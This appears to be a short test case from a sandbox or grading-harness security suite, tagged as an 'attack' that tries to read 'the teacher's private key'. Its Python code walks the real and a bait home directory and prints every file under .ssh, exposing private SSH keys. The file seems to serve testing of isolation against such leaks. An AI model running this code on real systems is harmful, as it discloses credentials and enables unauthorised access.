# /// attack
# tries = "Reads the teacher's private key."
# points = 0
# shows = ["leak"]
# ///
# %% before count
from pathlib import Path

for home in (Path.home(), Path(bait["home"])):
    for file in home.glob(".ssh/*"):
        print(file.read_text())
